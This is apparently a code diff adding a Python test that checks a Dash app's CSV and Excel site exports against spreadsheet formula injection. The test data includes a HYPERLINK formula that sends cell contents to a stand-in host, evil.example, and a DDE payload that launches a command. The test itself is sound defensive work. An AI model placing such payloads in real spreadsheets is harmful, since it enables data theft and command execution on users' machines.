@@ -169,3 +169,32 @@ def test_crafted_values_in_every_callback_never_give_a_500(demo, user):
     assert not failures, f"{len(failures)} of {calls} crafted calls answered 5xx: {failures[:10]}"
     if user == "viewer":
         assert table_hash(settings.database_url) == before
+
+
+def test_the_sites_page_downloads_never_carry_a_live_formula(demo):
+    """The grid's rows come back from the browser, so a crafted name reaches the file: it must
+    arrive as text, not as a formula Excel would run."""
+    import io
+
+    from openpyxl import load_workbook
+
+    app, _settings = demo
+    client = app.server.test_client()
+    log_in(client, "viewer", TEST_PASSWORDS["viewer"])
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    rows = [{"code": "GD-0001", "name": attack, "township": "@SUM(1+1)", "rate": -0.5,
+             "address": "+cmd|' /C calc'!A0"}]
+    for button, suffix in (("sites-export-csv", ".csv"), ("sites-export-xlsx", ".xlsx")):
+        response = call(client, app, "sites-download.data",
+                        {f"{button}.n_clicks": 1, "sites-grid.virtualRowData": rows}, changed=[f"{button}.n_clicks"])
+        sent = response.get_json()["response"]["sites-download"]["data"]
+        assert sent["filename"].endswith(suffix) and sent["base64"]
+        content = base64.b64decode(sent["content"])
+        if suffix == ".csv":
+            cells = [c for line in content.decode("utf-8-sig").splitlines() for c in line.split(",")]
+        else:
+            sheet = load_workbook(io.BytesIO(content)).active
+            cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+        texts = [c.strip('"') for c in cells]
+        assert not any(c.startswith(("=", "+", "@")) for c in texts), texts
+        assert any("HYPERLINK" in c for c in texts)
